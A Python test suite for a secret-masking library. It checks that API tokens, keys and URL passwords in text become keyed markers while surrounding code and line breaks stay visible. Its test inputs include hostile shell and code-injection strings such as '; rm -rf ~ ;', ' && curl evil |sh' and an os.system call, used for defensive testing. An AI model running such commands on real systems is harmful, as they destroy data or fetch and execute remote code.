"""Secrets become markers that are recognised again."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from lg_policy.errors import ConfigError
from lg_policy.secrets.finder import Finder, encoded
from lg_policy.secrets.masking import MARKER, Masker, find_marker
from lg_policy.secrets.shapes import OWN, Shape, library_shapes

KEY = b"k" * 32
SHAPES = [*OWN, *library_shapes()]
FINDER = Finder(SHAPES)
# Between two of these a reader must see everything; each of them alone, or all together, may be in the text.
PIECES = (
    "postgres://u:", "@localhost/app", "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "Bearer ", "sk-",
    "//npm.example/:_authToken=npm_", "aws_secret_key = '", "key = ", "eyJhbGciOiJI.eyJzdWIiOiIx.", "https://hooks.slack.com/services/",
    "AccountKey=", "12345678:", "sq0csp-", "xoxb-1-", "A1b2" * 16, "a1" * 20, "A" * 88, "[secret:", "s3cret", "\n",
    "ghp_",
)  # fmt: skip
CODE = (
    "__import__('os').system(\"id\")",
    "; rm -rf ~ ;",
    "\neval(x)\n",
    " && curl evil |sh",
    "`id`",
    "\\x22;f()",
    "<script>",
)


@pytest.mark.parametrize(
    ("kind", "secret"),
    [
        ("github_token", "ghp_" + "a1" * 18),
        ("github_token", "github_pat_" + "a1" * 12),
        ("gitlab_token", "glpat-" + "a1" * 10),
        ("google_key", "AIza" + "a1" * 17 + "b"),
        ("stripe_key", "sk_live_" + "a1" * 8),
        ("pypi_token", "pypi-" + "a1" * 25),
        ("gateway_token", "lgt_name_" + "a1" * 8),
        ("aws_access_key", "AKIA" + "A1" * 8),
        ("anthropic_key", "sk-ant-" + "a" * 30),
        ("openai_key", "sk-proj-" + "a" * 40),
        ("slack_token", "xoxb-123456789012-abc"),
        ("jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghijkl"),
        ("npm_token", "npm_" + "a" * 36),
    ],
)
def test_a_known_shape_is_masked_in_place(kind: str, secret: str) -> None:
    masked = Masker(KEY).mask(f"before {secret} after")
    assert secret not in masked
    assert masked.startswith(f"before [secret:{kind}:")
    assert masked.endswith("] after")


def test_every_shape_of_ours_has_an_example_above_or_a_test_of_its_own() -> None:
    (examples,) = (mark.args[1] for mark in test_a_known_shape_is_masked_in_place.pytestmark)  # type: ignore[attr-defined]  # set by the decorator
    assert {kind for kind, _ in examples} | {"url_password", "bearer", "npm"} == {shape.kind for shape in OWN}


def test_a_password_in_a_url_and_a_bearer_token_are_masked_and_the_rest_stays() -> None:
    masked = Masker(KEY).mask("postgresql://me:hunter2@host/db Authorization: Bearer abcdefghijklmnopqrstuv")
    assert "hunter2" not in masked
    assert "abcdefghijklmnop" not in masked
    assert masked.startswith("postgresql://[secret:url_password:")
    assert "@host/db Authorization: Bearer [secret:bearer:" in masked


def test_configured_values_are_masked_but_not_words_too_short_to_be_secrets() -> None:
    masked = Masker(KEY, ["s3cret-value", "abc"]).mask("x s3cret-value abc")
    assert masked.endswith("] abc")
    assert "s3cret-value" not in masked


def test_each_of_several_configured_values_is_masked_and_the_longest_as_a_whole() -> None:
    masked = Masker(KEY, ["first-value", "second-value", "first-value-and-more"]).mask(
        "second-value first-value-and-more"
    )
    assert [part.partition(":")[0] for part in masked.split()] == ["[secret", "[secret"]


def test_the_same_secret_gives_the_same_marker_under_one_key_only() -> None:
    secret = "ghp_" + "b" * 36
    assert Masker(KEY).mask(secret) == Masker(KEY).mask(secret)
    assert Masker(KEY).mask(secret) != Masker(b"other").mask(secret)


def test_json_is_masked_in_values_and_keys_and_markers_are_found_again() -> None:
    secret = "ghp_" + "c" * 36
    masked = Masker(KEY).mask_json({"a": [1, None, {"b": f"x{chr(10)}{secret}"}], secret: True})
    assert secret not in str(masked)
    assert find_marker(masked) is not None
    assert find_marker({"a": ["[secret:x]", 3]}) is None


def test_ordinary_text_is_left_alone() -> None:
    text = "def skip(x): return sk - 1  # see https://example.com/a:b, APACHELICENSE2 and 8.8.8.8"
    assert Masker(KEY).mask(text) == text


@pytest.mark.parametrize(
    ("kind", "secret"),
    [
        ("sendgrid", "SG." + "a" * 22 + "." + "b" * 43),
        ("azure_storage_key", "AccountKey=" + "A" * 88),
        ("discord", "M" + "a" * 23 + ".bbbbbb." + "c" * 27),
        ("gitlab_token", "glcbt-aa_" + "c" * 20),
        ("slack", "https://hooks.slack.com/services/T01/B01/abcdefgh"),
        ("square_oauth", "sq0csp-" + "a" * 43),
        ("telegram_token", "110201543:" + "A" * 35),
        ("twilio", "SK" + "a1" * 16),
        ("mailchimp", "a1" * 16 + "-us12"),
    ],
)
def test_shapes_of_the_library_are_masked_too(kind: str, secret: str) -> None:
    masked = Masker(KEY).mask(f"before {secret} after")
    assert secret not in masked
    assert f"[secret:{kind}:" in masked
    assert masked.startswith("before ")
    assert masked.endswith(" after")


def test_only_the_secret_is_masked_where_its_name_stands_beside_it() -> None:
    masked = Masker(KEY).mask("aws_secret_key = '" + "wJalrXUtnF" * 4 + "'")
    assert masked.startswith("aws_secret_key = '[secret:aws:")
    assert masked.endswith("]'")


def test_a_users_own_patterns_are_masked_and_a_wrong_one_is_refused_by_name() -> None:
    assert Masker(KEY, (), {"ticket": "INT-[0-9]{6}"}).mask("see INT-123456").startswith("see [secret:ticket:")
    for pattern in ("(", "(?<=x)y", ""):
        with pytest.raises(ConfigError, match=r"secret_patterns\.mine"):
            Masker(KEY, (), {"mine": pattern})


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.text(max_size=20), st.sampled_from(SHAPES), st.data())
def test_no_shape_is_lost_in_the_pass_over_all_shapes(around: str, shape: Shape, data: st.DataObject) -> None:
    """Whatever a shape's own expression finds, the pass over all shapes at once must have found before."""
    text = encoded(around + data.draw(st.from_regex(shape.expression.replace(r"\x{80}-\x{10FFFF}", "é"))) + around)
    assume(shape.compiled.search(text) is not None)
    assert SHAPES.index(shape) in FINDER.candidates(text)


def test_a_mask_is_not_masked_again() -> None:
    masker = Masker(KEY, ["s3cret-value", "secret"], {"own": r"\[sec.*"})
    once = masker.mask("password=s3cret-value Bearer s3cret-value1234567890 x://u:pa55@h ghp_" + "a1" * 18)
    assert masker.mask(once) == once
    in_a_url = masker.mask("https://me:s3cret-value@host/x")
    assert in_a_url.startswith("https://")
    assert in_a_url.endswith("]@host/x")
    assert "s3cret-value" not in in_a_url


def test_every_shape_of_the_library_runs_on_re2(caplog: pytest.LogCaptureFixture) -> None:
    assert len(library_shapes()) > 30
    assert not caplog.records


@given(st.lists(st.one_of(st.sampled_from(PIECES), st.sampled_from(CODE), st.text(max_size=5)), max_size=12))
def test_a_mask_hides_neither_program_text_nor_a_line_end(parts: list[str]) -> None:
    text = "".join(parts)
    for span in Masker(KEY).spans(text):
        hidden = text[span.start : span.end]
        assert not set(hidden) & set(" \t\r\n\"'`()[]{}<>;|&\\\u2028\u202e")
    masked = Masker(KEY).mask(text)
    for code in CODE:
        assert masked.count(code) == text.count(code)


@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text()), max_size=10))
def test_places_of_secrets_are_those_that_the_mask_replaces(parts: list[str]) -> None:
    text, masker = "".join(parts), Masker(KEY, ["s3cret-value", "\ud800é-value"])
    spans = masker.spans(text)
    assert all(0 <= span.start < span.end <= len(text) for span in spans)
    assert all(first.end <= second.start for first, second in itertools.pairwise(spans))
    rebuilt, at = "", 0
    for span in spans:
        rebuilt += text[at : span.start] + masker.marker(span.kind, text[span.start : span.end])
        at = span.end
    assert rebuilt + text[at:] == masker.mask(text)


def test_places_count_characters_of_any_width() -> None:
    text = "é\ud800中🙂 ghp_" + "a1" * 18 + " 中 x://u:pä55@h"
    assert [(text[span.start : span.end], span.kind) for span in Masker(KEY).spans(text)] == [
        ("ghp_" + "a1" * 18, "github_token"),
        ("u:pä55", "url_password"),
    ]


@pytest.mark.parametrize(
    "text",
    [
        'DB = "postgres://u:";__import__("os").system("x");"@localhost/app"',
        "postgres://u:a&evil&@h",
        "postgres://u:$(evil)@h",
        "postgres://u:a\u2028evil@h",
        'url = "postgres://%s:%s@%s" % (user, password, host)',
        "postgres://u:$PASSWORD@h",
        "postgres://u:***@h",
        "Bearer /usr/local/bin/some-program-of-mine",
        "sq0csp-" + "a\\x29" * 12,
    ],
)
def test_what_only_looks_like_the_beginning_of_a_secret_is_shown(text: str) -> None:
    assert Masker(KEY).mask(text) == text


def test_what_follows_a_token_on_its_line_is_shown() -> None:
    masked = Masker(KEY).mask("//npm.example/:_authToken=npm_" + "a1" * 18 + "'; evil()")
    assert masked.startswith("//npm.example/:_authToken=[secret:npm")
    assert masked.endswith("]'; evil()")


def test_a_configured_value_is_masked_as_it_stands_line_by_line() -> None:
    value = "first line; (odd)\nsecond line of the value"
    masker = Masker(KEY, [value])
    masked = masker.mask(f"a {value} b")
    assert len(MARKER.findall(masked)) == 2
    assert masked.count("\n") == 1
    assert "second line" not in masker.mask("only the second line of the value")
    assert "first line; (odd)" not in masker.mask("x = first line; (odd)")


def test_hundreds_of_configured_values_are_all_found() -> None:
    values = [f"value-{number}-{'x' * (number % 7)}" for number in range(1000)]
    masker = Masker(KEY, values)
    assert [masker.mask(value) for value in values] == [masker.marker("configured", value) for value in values]


K = "-----BEGIN PRIVATE KEY-----"


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "piece",
    [
        f"{K}\n", K, f"{K}\n{'A1b/' * 16}\n", f"{K}{' ' * 50}{chr(10) * 24}", f"{K}{(chr(10) + '   ') * 30}",
        f"a: {K}\n", f"{K}\\n\\n", f"  | > +// {K}\n", "://a:", "://a:b@", "key" + " " * 30, "aws key '", "sk-",
        "-eyJaaaaaaaaaaaa.", "bearer a",
        "xoxb-1-", "[secret:", "[secret:configured:c55655db]", "\ud800", "é", "AKIA" * 6 + " ",
    ],
)  # fmt: skip
def test_a_megabyte_of_anything_is_masked_in_linear_time(piece: str) -> None:
    """The old expressions took minutes for some of these; the time-out is far above what linear time takes."""
    text = piece * (1_000_000 // len(piece))
    Masker(KEY, ["s3cret-value"]).mask(text)
